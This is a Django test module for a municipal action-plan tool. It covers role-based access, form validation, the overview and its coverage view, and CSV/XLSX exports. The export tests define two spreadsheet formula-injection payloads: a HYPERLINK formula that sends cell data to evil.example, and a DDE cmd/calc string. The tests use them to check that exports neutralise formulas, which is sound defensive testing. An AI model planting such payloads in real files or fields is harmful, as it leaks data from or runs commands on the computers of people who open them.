"""The action plans' pages (docs/actions.md) for each role: a department representative reads their
departments' and the organisation-wide actions and changes only their own departments' (another
department's action is a 404, GET and POST); management reads and never writes; the overview flags overdue
actions, shows the coverage under the anonymity rule, exports CSV and XLSX safely and costs the same number
of queries for few and many actions; the create page takes a suggestion's prefill."""

from __future__ import annotations

import csv
import datetime
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from dimios_web.spreadsheets import is_formula_like
from maturity.models import Action, ActionNote
from maturity.services import actions as services
from surveys.access import Visibility
from surveys.models import AuditAction, AuditEvent, Capability, Round
from tests.factories import MeasurementPeriodFactory, RoundFactory

pytestmark = pytest.mark.django_db

TODAY = timezone.localdate()
HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"x")'
HOSTILE_PLAN = "+SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def world(organisation, org_admin, dept_rep, management, social_department, school_department):
    """A closed round with results, and four actions: the representative's department, a unit under it,
    another department and the whole organisation (overdue)."""
    from tests.reports.conftest import make_closed_round

    round_ = make_closed_round(organisation)
    capabilities = list(Capability.objects.filter(version=round_.questionnaire)[:3])
    unit = social_department.children.get()

    def make(title, department, *, starts_on=TODAY, due_on=TODAY + datetime.timedelta(days=60), **extra):
        return services.create_action(
            organisation=organisation,
            round=round_,
            department=department,
            title=title,
            capabilities=capabilities[:1],
            owner=extra.pop("owner", org_admin),
            starts_on=starts_on,
            due_on=due_on,
            scope=Visibility.everything(),
            actor=org_admin,
            **extra,
        )

    actions = {
        "own": make("Införa e-tjänst för ansökan om hemtjänst", social_department, owner=dept_rep),
        "unit": make("Digital signering i äldreomsorgen", unit, plan_reference="Budgetuppdrag 2025:14"),
        "other": make("Skolans lärplattform", school_department),
        "wide": make(
            "Gemensam förvaltningsmodell",
            None,
            starts_on=TODAY - datetime.timedelta(days=200),
            due_on=TODAY - datetime.timedelta(days=10),
        ),
    }
    return {"round": round_, "capabilities": capabilities, "actions": actions, "unit": unit}


def _urls(organisation, action) -> dict[str, str]:
    code = organisation.code
    return {
        "list": reverse("maturity:action_list", args=[code]),
        "csv": reverse("maturity:action_export", args=[code, "csv"]),
        "xlsx": reverse("maturity:action_export", args=[code, "xlsx"]),
        "create": reverse("maturity:action_create", args=[code]),
        "detail": reverse("maturity:action_detail", args=[code, action.pk]),
        "update": reverse("maturity:action_update", args=[code, action.pk]),
        "status": reverse("maturity:action_status", args=[code, action.pk]),
        "note": reverse("maturity:action_note_create", args=[code, action.pk]),
    }


def _form(world, organisation, owner, department, /, **overrides) -> dict:
    data = {
        "title": "Ny åtgärd",
        "round": world["round"].pk,
        "department": department.pk if department is not None else "",
        "capabilities": [c.pk for c in world["capabilities"][:2]],
        "owner": owner.pk,
        "priority": "high",
        "starts_on": "2026-01-10",
        "due_on": "2026-09-30",
        "plan_reference": "Budgetuppdrag 2026:3",
        "description": "",
    }
    data.update(overrides)
    return data


# --- Each role ----------------------------------------------------------------------------------------------


def test_a_representative_reads_their_departments_and_the_organisation_wide_actions_only(
    client, world, organisation, dept_rep
):
    client.force_login(dept_rep)
    page = client.get(reverse("maturity:action_list", args=[organisation.code])).content.decode()
    actions = world["actions"]
    for key in ("own", "unit", "wide"):
        assert actions[key].title in page
    assert actions["other"].title not in page
    assert "Utbildningsförvaltningen" not in page  # not even in the filter or the coverage view
    for key in ("own", "unit", "wide"):
        assert client.get(_urls(organisation, actions[key])["detail"]).status_code == 200


def test_a_representative_can_neither_see_nor_change_another_departments_action(
    client, world, organisation, dept_rep
):
    other = world["actions"]["other"]
    urls = _urls(organisation, other)
    client.force_login(dept_rep)
    for name in ("detail", "update"):
        assert client.get(urls[name]).status_code == 404, name
    assert client.post(urls["update"], _form(world, organisation, dept_rep, None)).status_code == 404
    assert client.post(urls["status"], {"status": "dropped"}).status_code == 404
    assert client.post(urls["note"], {"text": "Kapad"}).status_code == 404
    other.refresh_from_db()
    assert other.title == "Skolans lärplattform" and other.status == Action.Status.PLANNED
    assert not ActionNote.objects.filter(action=other).exists()


def test_a_representative_cannot_create_an_action_for_another_department_or_the_whole_organisation(
    client, world, organisation, dept_rep, school_department
):
    client.force_login(dept_rep)
    url = reverse("maturity:action_create", args=[organisation.code])
    before = Action.objects.count()
    for department in (school_department, None):
        response = client.post(url, _form(world, organisation, dept_rep, department))
        assert response.status_code == 200
        assert "Du kan inte registrera åtgärder för den här förvaltningen" in response.content.decode() or (
            "Välj en av dina förvaltningar" in response.content.decode()
        )
    assert Action.objects.count() == before


def test_a_representative_reads_but_does_not_change_an_organisation_wide_action(
    client, world, organisation, dept_rep
):
    wide = world["actions"]["wide"]
    urls = _urls(organisation, wide)
    client.force_login(dept_rep)
    page = client.get(urls["detail"]).content.decode()
    assert wide.title in page and urls["update"] not in page
    assert client.get(urls["update"]).status_code == 403
    assert client.post(urls["status"], {"status": "done"}).status_code == 403
    wide.refresh_from_db()
    assert wide.status == Action.Status.PLANNED


def test_a_representative_records_changes_and_notes_their_own_departments_action(
    client, world, organisation, dept_rep, social_department
):
    client.force_login(dept_rep)
    response = client.post(
        reverse("maturity:action_create", args=[organisation.code]),
        _form(world, organisation, dept_rep, world["unit"]),
    )
    assert response.status_code == 302
    action = Action.objects.get(title="Ny åtgärd")
    assert action.department == world["unit"] and action.created_by == dept_rep
    urls = _urls(organisation, action)
    assert response["Location"] == urls["detail"]
    response = client.post(
        urls["update"], _form(world, organisation, dept_rep, social_department, title="Ny åtgärd, reviderad")
    )
    assert response.status_code == 302
    assert client.post(urls["status"], {"status": "in_progress"}).status_code == 302
    assert (
        client.post(urls["note"], {"text": "Förstudien är klar.", "written_on": "2026-02-01"}).status_code
        == 302
    )
    action.refresh_from_db()
    assert action.title == "Ny åtgärd, reviderad" and action.status == Action.Status.IN_PROGRESS
    assert action.department == social_department
    assert action.notes.get().author == dept_rep
    events = AuditEvent.objects.filter(organisation=organisation, actor=dept_rep).values_list(
        "action", flat=True
    )
    assert set(events) >= {
        AuditAction.ACTION_CREATED,
        AuditAction.ACTION_CHANGED,
        AuditAction.ACTION_STATUS_CHANGED,
        AuditAction.ACTION_NOTE_ADDED,
    }
    page = client.get(urls["detail"]).content.decode()
    assert "Förstudien är klar." in page and "Pågår" in page


def test_management_reads_every_action_and_writes_none(client, world, organisation, management):
    action = world["actions"]["other"]
    urls = _urls(organisation, action)
    client.force_login(management)
    page = client.get(urls["list"]).content.decode()
    assert all(a.title in page for a in world["actions"].values())
    assert urls["create"] not in page
    assert client.get(urls["detail"]).status_code == 200
    assert urls["update"] not in client.get(urls["detail"]).content.decode()
    for name in ("create", "update"):
        assert client.get(urls[name]).status_code == 403, name
    assert client.post(urls["create"], _form(world, organisation, management, None)).status_code == 403
    assert client.post(urls["status"], {"status": "done"}).status_code == 403
    assert client.post(urls["note"], {"text": "x"}).status_code == 403
    assert Action.objects.count() == 4 and not Action.objects.filter(status="done").exists()


def test_the_organisation_admin_records_an_organisation_wide_action(client, world, organisation, org_admin):
    client.force_login(org_admin)
    response = client.post(
        reverse("maturity:action_create", args=[organisation.code]),
        _form(world, organisation, org_admin, None),
    )
    assert response.status_code == 302
    assert Action.objects.get(title="Ny åtgärd").department is None


@pytest.mark.parametrize("persona", ["outsider", "no_role_user"])
def test_someone_outside_the_organisation_gets_not_found_and_changes_nothing(
    client, request, world, organisation, persona
):
    client.force_login(request.getfixturevalue(persona))
    action = world["actions"]["own"]
    urls = _urls(organisation, action)
    for name, url in urls.items():
        assert client.get(url).status_code in (404, 405), name
        assert client.post(url, {"status": "done", "text": "x", "title": "x"}).status_code in (404, 405), name
    action.refresh_from_db()
    assert action.status == Action.Status.PLANNED and not action.notes.exists()


# --- The form -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("overrides", "message"),
    [
        ({"due_on": "2026-01-01"}, "Slutdatumet kan inte ligga före startdatumet"),
        ({"title": " "}, "Ge åtgärden en rubrik"),
        ({"capabilities": []}, "Välj minst en förmåga"),
        ({"owner": "outsider"}, "Den ansvariga måste ha en roll i organisationen"),
        ({"round": "other-organisation"}, "Välj en avslutad mätomgång i den här organisationen"),
        ({"round": "open"}, "Välj en avslutad mätomgång i den här organisationen"),
        ({"capabilities": "other-version"}, "Välj förmågor ur mätomgångens enkät"),
        ({"department": "other-organisation"}, "Du kan inte registrera åtgärder för den här förvaltningen"),
    ],
)
def test_bad_input_shows_a_swedish_message_on_the_form_and_saves_nothing(
    client, request, world, organisation, other_organisation, org_admin, overrides, message
):
    from tests.factories import build_questionnaire

    overrides = dict(overrides)
    if overrides.get("owner") == "outsider":
        overrides["owner"] = request.getfixturevalue("outsider").pk
    if overrides.get("round") == "other-organisation":
        overrides["round"] = RoundFactory(
            organisation=other_organisation, questionnaire=world["round"].questionnaire, status="closed"
        ).pk
    if overrides.get("round") == "open":
        overrides["round"] = RoundFactory(
            organisation=organisation,
            questionnaire=world["round"].questionnaire,
            status=Round.Status.OPEN,
            period=MeasurementPeriodFactory(year=2026, term="VT"),
        ).pk
    if overrides.get("capabilities") == "other-version":
        overrides["capabilities"] = [build_questionnaire().capabilities.first().pk]
    if overrides.get("department") == "other-organisation":
        overrides["department"] = other_organisation.departments.first().pk
    client.force_login(org_admin)
    before = Action.objects.count()
    response = client.post(
        reverse("maturity:action_create", args=[organisation.code]),
        _form(world, organisation, org_admin, None, **overrides),
    )
    assert response.status_code == 200
    assert message in response.content.decode()
    assert Action.objects.count() == before and not Action.objects.filter(title="Ny åtgärd").exists()


def test_the_create_page_takes_a_suggestions_prefill(
    client, world, organisation, dept_rep, social_department
):
    capabilities = world["capabilities"]
    client.force_login(dept_rep)
    url = reverse("maturity:action_create", args=[organisation.code])
    query = {
        "round": world["round"].pk,
        "department": social_department.pk,
        "capability": [capabilities[0].code, capabilities[1].code, "no-such-code"],
        "title": "Stärk nyttorealiseringen",
    }
    response = client.get(url, query)
    assert response.status_code == 200
    form = response.context["form"]
    assert form.initial["round"] == world["round"].pk
    assert form.initial["department"] == social_department.pk
    assert form.initial["capabilities"] == [capabilities[0].pk, capabilities[1].pk]
    assert form.initial["title"] == "Stärk nyttorealiseringen"
    assert form.initial["owner"] == dept_rep.pk
    page = response.content.decode()
    assert 'value="Stärk nyttorealiseringen"' in page


def test_a_prefill_outside_the_users_scope_is_ignored(
    client, world, organisation, other_organisation, dept_rep, school_department
):
    foreign = RoundFactory(organisation=other_organisation, status="closed")
    client.force_login(dept_rep)
    response = client.get(
        reverse("maturity:action_create", args=[organisation.code]),
        {"round": foreign.pk, "department": school_department.pk, "capability": "x", "title": ""},
    )
    assert response.status_code == 200
    initial = response.context["form"].initial
    assert initial["round"] == world["round"].pk  # the latest closed round of the organisation instead
    assert initial.get("department") != school_department.pk
    assert "capabilities" not in initial or initial["capabilities"] == []
    assert "Utbildningsförvaltningen" not in response.content.decode()


# --- The overview -------------------------------------------------------------------------------------------


def test_the_overview_flags_overdue_actions_and_filters(client, world, organisation, org_admin, dept_rep):
    client.force_login(org_admin)
    url = reverse("maturity:action_list", args=[organisation.code])
    response = client.get(url)
    overdue = [row.action.title for row in response.context["rows"] if row.overdue]
    assert overdue == ["Gemensam förvaltningsmodell"]
    assert "försenad" in response.content.decode()
    titles = lambda r: {row.action.title for row in r.context["rows"]}  # noqa: E731
    assert titles(client.get(url, {"overdue": "on"})) == {"Gemensam förvaltningsmodell"}
    assert titles(client.get(url, {"department": "org"})) == {"Gemensam förvaltningsmodell"}
    social = organisation.departments.get(name="Socialförvaltningen")
    assert titles(client.get(url, {"department": social.pk})) == {
        "Införa e-tjänst för ansökan om hemtjänst",
        "Digital signering i äldreomsorgen",
    }  # with the units under it
    assert titles(client.get(url, {"owner": dept_rep.pk})) == {"Införa e-tjänst för ansökan om hemtjänst"}
    assert len(titles(client.get(url, {"capability": world["capabilities"][0].code}))) == 4
    assert titles(client.get(url, {"capability": world["capabilities"][1].code})) == set()
    services.set_action_status(
        action=world["actions"]["wide"], status="done", scope=Visibility.everything(), actor=org_admin
    )
    assert titles(client.get(url, {"status": "done"})) == {"Gemensam förvaltningsmodell"}
    assert titles(client.get(url, {"overdue": "on"})) == set()  # done is never overdue
    assert len(titles(client.get(url, {"status": "no-such", "department": "99999"}))) == 4  # ignored
    services.set_action_status(
        action=world["actions"]["other"], status="dropped", scope=Visibility.everything(), actor=org_admin
    )
    assert len(titles(client.get(url))) == 4
    assert world["actions"]["other"].title not in titles(client.get(url, {"status": "current"}))
    assert len(titles(client.get(url, {"status": "current"}))) == 3


def test_the_overview_heads_its_first_column_action_and_writes_dates_in_swedish(
    client, world, organisation, org_admin
):
    client.force_login(org_admin)
    html = client.get(reverse("maturity:action_list", args=[organisation.code])).content.decode()
    assert '<th scope="col">Åtgärd</th>' in html  # not the admin's "Händelse" for the same msgid
    action = world["actions"]["wide"]
    months = [
        "januari",
        "februari",
        "mars",
        "april",
        "maj",
        "juni",
        "juli",
        "augusti",
        "september",
        "oktober",
        "november",
        "december",
    ]
    assert f"{action.due_on.day} {months[action.due_on.month - 1]} {action.due_on.year}" in html


def test_the_coverage_shows_the_weakest_shown_capabilities_and_departments_without_an_action(
    client, world, organisation, org_admin
):
    from maturity.read_model import Shown, load_round_view
    from surveys.scope_keys import ORGANISATION

    client.force_login(org_admin)
    response = client.get(reverse("maturity:action_list", args=[organisation.code]))
    coverage = response.context["coverage"]
    assert coverage.round == world["round"] and len(coverage.weakest) == 5
    view = load_round_view(world["round"], figures=[ORGANISATION])
    shown = {
        code: f.value for code, f in view.parts(ORGANISATION, "capabilities").items() if isinstance(f, Shown)
    }
    assert [w.code for w in coverage.weakest] == sorted(shown, key=lambda c: (shown[c], c))[:5]
    targeted = world["capabilities"][0].code
    for weak in coverage.weakest:
        assert weak.n_actions == (4 if weak.code == targeted else 0)
    assert coverage.departments_without == []  # every department of the fixture has one
    services.set_action_status(
        action=world["actions"]["other"], status="dropped", scope=Visibility.everything(), actor=org_admin
    )
    coverage = client.get(reverse("maturity:action_list", args=[organisation.code])).context["coverage"]
    assert [d.name for d in coverage.departments_without] == ["Utbildningsförvaltningen"]


def test_the_coverage_of_a_department_too_small_to_show_is_hidden(client, world, organisation, org_admin):
    from maturity.models import RoundResult

    school = organisation.departments.get(name="Utbildningsförvaltningen")
    result = RoundResult.objects.get(round=world["round"], scope_key=f"department:{school.pk}")
    result.published = {**result.published, "hidden": True}
    result.save()
    client.force_login(org_admin)
    response = client.get(
        reverse("maturity:action_list", args=[organisation.code]), {"department": school.pk}
    )
    coverage = response.context["coverage"]
    assert coverage.hidden and coverage.weakest == []
    assert "För få har svarat här" in response.content.decode()


def _many_actions(world, organisation, org_admin, n):
    departments = list(organisation.departments.all())
    for i in range(n):
        action = services.create_action(
            organisation=organisation,
            round=world["round"],
            department=departments[i % len(departments)],
            title=f"Åtgärd {i}",
            capabilities=world["capabilities"][: 1 + i % 3],
            owner=org_admin,
            starts_on=TODAY,
            due_on=TODAY + datetime.timedelta(days=i),
            scope=Visibility.everything(),
            actor=org_admin,
        )
        ActionNote.objects.create(action=action, text="Anteckning", author=org_admin)


@pytest.mark.parametrize("persona", ["org_admin", "dept_rep"])
def test_the_overview_and_its_export_cost_the_same_queries_for_few_and_many_actions(
    client, request, world, organisation, org_admin, persona, django_assert_max_num_queries
):
    client.force_login(request.getfixturevalue(persona))
    urls = [
        reverse("maturity:action_list", args=[organisation.code]),
        reverse("maturity:action_export", args=[organisation.code, "xlsx"]),
    ]
    for url in urls:
        client.get(url)  # warm the caches (sessions, the published views)
    counts = {}
    for size in ("small", "large"):
        if size == "large":
            _many_actions(world, organisation, org_admin, 60)
        for url in urls:
            with django_assert_max_num_queries(25) as captured:
                assert client.get(url).status_code == 200
            counts[(size, url)] = len(captured)
    for url in urls:
        assert counts[("small", url)] == counts[("large", url)], counts


# --- The export ---------------------------------------------------------------------------------------------


@pytest.fixture
def hostile(world, organisation, org_admin):
    action = world["actions"]["wide"]
    Action.objects.filter(pk=action.pk).update(title=HOSTILE_TITLE, plan_reference=HOSTILE_PLAN)
    return action


def test_the_csv_export_lists_the_visible_actions_with_formulas_quoted_and_is_audited(
    client, hostile, world, organisation, dept_rep
):
    client.force_login(dept_rep)
    response = client.get(reverse("maturity:action_export", args=[organisation.code, "csv"]))
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    header, body = rows[0], rows[1:]
    assert header[:3] == ["Rubrik", "Förvaltning", "Mätomgång"]
    titles = {row[0] for row in body}
    assert titles == {
        "'" + HOSTILE_TITLE,
        "Införa e-tjänst för ansökan om hemtjänst",
        "Digital signering i äldreomsorgen",
    }  # not another department's action
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if is_formula_like(c)]
    assert "'" + HOSTILE_PLAN in cells and "Budgetuppdrag 2025:14" in cells
    wide = next(row for row in body if row[0] == "'" + HOSTILE_TITLE)
    assert wide[1] == "Hela organisationen" and wide[6] == "Planerad" and wide[7] == "ja"
    event = AuditEvent.objects.get(action=AuditAction.ACTIONS_EXPORTED)
    assert event.actor == dept_rep and event.details == {"format": "csv", "actions": 3}


def test_the_xlsx_export_keeps_dates_as_dates_and_formulas_as_quoted_text(
    client, hostile, world, organisation, org_admin
):
    client.force_login(org_admin)
    response = client.get(
        reverse("maturity:action_export", args=[organisation.code, "xlsx"]), {"status": "planned"}
    )
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value: c for c in cells if isinstance(c.value, str)}
    assert texts[HOSTILE_TITLE].quotePrefix and texts[HOSTILE_PLAN].quotePrefix
    assert sheet.max_row == 5  # the header and the four planned actions
    due = [row[9].value for row in sheet.iter_rows(min_row=2)]
    assert all(isinstance(value, datetime.datetime) for value in due)


def test_an_unknown_export_format_is_not_found(client, world, organisation, org_admin):
    client.force_login(org_admin)
    assert client.get(reverse("maturity:action_export", args=[organisation.code, "pdf"])).status_code == 404


def test_management_who_also_represents_a_department_reads_all_and_changes_only_that_department(
    client, world, organisation, management, social_department
):
    from surveys.models import RoleAssignment

    assignment = RoleAssignment.objects.create(
        user=management, organisation=organisation, role="department_rep"
    )
    assignment.departments.set([social_department])
    client.force_login(management)
    own, other = world["actions"]["own"], world["actions"]["other"]
    assert client.get(_urls(organisation, other)["detail"]).status_code == 200  # reads everything
    assert client.post(_urls(organisation, other)["status"], {"status": "done"}).status_code == 403
    assert client.post(_urls(organisation, own)["status"], {"status": "done"}).status_code == 302
    other.refresh_from_db()
    own.refresh_from_db()
    assert (own.status, other.status) == ("done", "planned")
